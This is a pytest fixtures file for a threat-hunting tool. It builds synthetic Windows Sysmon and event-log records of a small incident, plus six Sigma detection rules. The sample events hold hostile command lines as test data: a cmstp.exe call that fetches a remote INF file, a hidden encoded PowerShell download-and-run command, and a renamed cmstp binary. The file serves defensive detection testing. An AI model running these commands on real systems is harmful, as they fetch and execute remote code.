"""Fixtures for the hunt tests: realistic Windows events in evtx-JSON shape and small Sigma rule folders."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

SYSMON_GUID = "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
SECURITY_GUID = "54849625-5478-4994-A5BA-3E3B0328C30D"


def evtx_json_event(record: int, channel: str, provider: str, event_id: int | dict[str, Any], when: str,
                    computer: str, data: dict[str, Any], guid: str = SYSMON_GUID) -> dict[str, Any]:
    """One event as the evtx parser renders it (System block first, then EventData)."""
    return {"Event": {
        "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
        "System": {
            "Provider": {"#attributes": {"Name": provider, "Guid": guid}},
            "EventID": event_id, "Version": 5, "Level": 4, "Task": 1, "Opcode": 0,
            "Keywords": "0x8000000000000000", "TimeCreated": {"#attributes": {"SystemTime": when}},
            "EventRecordID": 40000 + record, "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 2640, "ThreadID": 3476}},
            "Channel": channel, "Computer": computer, "Security": {"#attributes": {"UserID": "S-1-5-18"}},
        },
        "EventData": data,
    }}


def process_creation(record: int, when: str, image: str, command_line: str, parent: str,
                     original_file_name: str, computer: str = "WKS-FIN-042.corp.example.com") -> dict[str, Any]:
    return evtx_json_event(record, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, when,
                           computer, {
                               "RuleName": "-", "UtcTime": when.replace("T", " ")[:23],
                               "ProcessGuid": f"{{9D1A4E2C-5F3B-65F0-{record:04X}-000000002B00}}",
                               "ProcessId": 4000 + record, "Image": image, "FileVersion": "10.0.19041.1",
                               "Description": "", "Product": "Microsoft® Windows® Operating System",
                               "Company": "Microsoft Corporation", "OriginalFileName": original_file_name,
                               "CommandLine": command_line, "CurrentDirectory": "C:\\Users\\jdoe\\",
                               "User": "CORP\\jdoe", "LogonGuid": "{9D1A4E2C-5F1E-65F0-8C3F-0A0000000000}",
                               "LogonId": "0xa3f8c", "TerminalSessionId": 1, "IntegrityLevel": "Medium",
                               "Hashes": "SHA256=4A2D2E5A1B0C7F3E9D8A6B5C4D3E2F1A0B9C8D7E6F5A4B3C2D1E0F9A8B7C6D5E",
                               "ParentProcessGuid": "{9D1A4E2C-5F2A-65F0-4E01-000000002B00}",
                               "ParentProcessId": 3120, "ParentImage": parent,
                               "ParentCommandLine": f'"{parent}"', "ParentUser": "CORP\\jdoe"})


def case_events() -> list[dict[str, Any]]:
    """A small incident: CMSTP abuse, an encoded PowerShell, a PsExec service, noise, and tricky values."""
    system32 = "C:\\Windows\\System32\\"
    events = [
        process_creation(1, "2024-03-12T09:14:22.1234567Z", system32 + "cmstp.exe",
                         "cmstp.exe /ni /s https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/"
                         "Payloads/Cmstp.inf", system32 + "cmd.exe", "CMSTP.EXE"),
        process_creation(2, "2024-03-12T09:15:03.5000000Z", system32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                         "powershell.exe -NoP -W Hidden -EncodedCommand "
                         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "PowerShell.EXE"),
        process_creation(3, "2024-03-12T09:15:40.0000000Z", system32 + "svchost.exe",
                         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                         "C:\\Windows\\System32\\services.exe", "svchost.exe"),
        # a renamed cmstp: only the PE original file name gives it away (upper-case, rule says lower)
        process_creation(4, "2024-03-12T09:16:10.0000000Z", "C:\\Users\\Public\\Downloads\\update_%1.exe",
                         "C:\\Users\\Public\\Downloads\\update_%1.exe /s C:\\Users\\Public\\x.inf",
                         system32 + "cmd.exe", "CMSTP.EXE"),
        # quotes, percent and underscore in values; a near miss for the LIKE-wildcard rule
        process_creation(5, "2024-03-12T09:17:00.0000000Z", system32 + "cmd.exe",
                         'cmd.exe /c "echo 100%_done > C:\\Temp\\status.txt"', system32 + "explorer.exe",
                         "Cmd.Exe"),
        process_creation(6, "2024-03-12T09:17:30.0000000Z", system32 + "cmd.exe",
                         'cmd.exe /c "echo 100%Xdone > C:\\Temp\\status.txt"', system32 + "explorer.exe",
                         "Cmd.Exe"),
        evtx_json_event(7, "System", "Service Control Manager", {"#attributes": {"Qualifiers": 16384}, "#text": 7045},
                        "2024-03-12T09:18:00.0000000Z", "SRV-DC-01.corp.example.com", {
                            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                            "ServiceType": "user mode service", "StartType": "demand start",
                            "AccountName": "LocalSystem"}, guid="555908D1-A6D7-4695-8E1E-26931D2012F4"),
        evtx_json_event(8, "Security", "Microsoft-Windows-Security-Auditing", 4625, "2024-03-12T09:19:00.0000000Z",
                        "SRV-DC-01.corp.example.com", {
                            "SubjectUserSid": "S-1-0-0", "TargetUserName": "administrator",
                            "TargetDomainName": "CORP", "Status": "0xc000006d", "LogonType": 3,
                            "IpAddress": "10.20.30.40", "WorkstationName": "KALI"}, guid=SECURITY_GUID),
    ]
    return events


def write_jsonl(path: Path, events: list[dict[str, Any]], *, escape_slashes: bool = False,
                ascii_only: bool = False) -> Path:
    lines = []
    for event in events:
        text = json.dumps(event, ensure_ascii=ascii_only)
        if escape_slashes:
            text = text.replace("/", "\\/")
        lines.append(text)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


RULES = {
    "proc_cmstp.yml": """
title: CMSTP Silent Install
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0001
status: test
level: high
tags: [attack.defense-evasion, attack.t1218.003]
logsource: {category: process_creation, product: windows}
detection:
    selection_img:
        - Image|endswith: '\\cmstp.exe'
        - OriginalFileName: 'cmstp.exe'
    selection_cli:
        CommandLine|contains: ['/s', '/au']
    condition: all of selection_*
""",
    "proc_encoded_ps.yml": """
title: Encoded PowerShell From Office
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0002
status: test
level: critical
tags: [attack.execution, attack.t1059.001]
logsource: {category: process_creation, product: windows}
detection:
    selection:
        ParentImage|endswith: ['\\winword.exe', '\\excel.exe']
        CommandLine|re: '(?i)-enc(odedcommand)?\\s+[a-z0-9+/=]{20,}'
    condition: selection
""",
    "proc_not_svchost.yml": """
title: Any Process But Svchost
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0003
status: experimental
level: informational
logsource: {category: process_creation, product: windows}
detection:
    filter:
        Image|endswith: '\\svchost.exe'
    condition: not filter
""",
    "proc_wildcard_chars.yml": """
title: Percent Underscore Literal
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0004
status: test
level: low
logsource: {category: process_creation, product: windows}
detection:
    selection:
        CommandLine|contains: '100%_done'
    condition: selection
""",
    "system_psexec_keyword.yml": """
title: PsExec Service Keyword
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0005
status: test
level: medium
tags: [attack.execution, attack.t1569.002]
logsource: {product: windows, service: system}
detection:
    keywords:
        - 'psexesvc'
    condition: keywords
""",
    "security_network_logon_failure.yml": """
title: Failed Network Logon
id: 0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0006
status: test
level: low
tags: [attack.credential-access, attack.t1110]
logsource: {product: windows, service: security}
detection:
    selection:
        EventID: 4625
        LogonType: 3
    condition: selection
""",
}


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    for name, text in RULES.items():
        (folder / name).write_text(text.lstrip(), encoding="utf-8")
    return folder


@pytest.fixture
def case_logs(tmp_path: Path) -> Path:
    folder = tmp_path / "logs"
    folder.mkdir()
    write_jsonl(folder / "wks-fin-042.jsonl", case_events())
    return folder


@pytest.fixture(scope="session")
def cache_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One compiled-rule cache for the session: rules are keyed by their text, so tests can share it."""
    return tmp_path_factory.mktemp("hunt-rule-cache")


EventFactory = Callable[[], list[dict[str, Any]]]
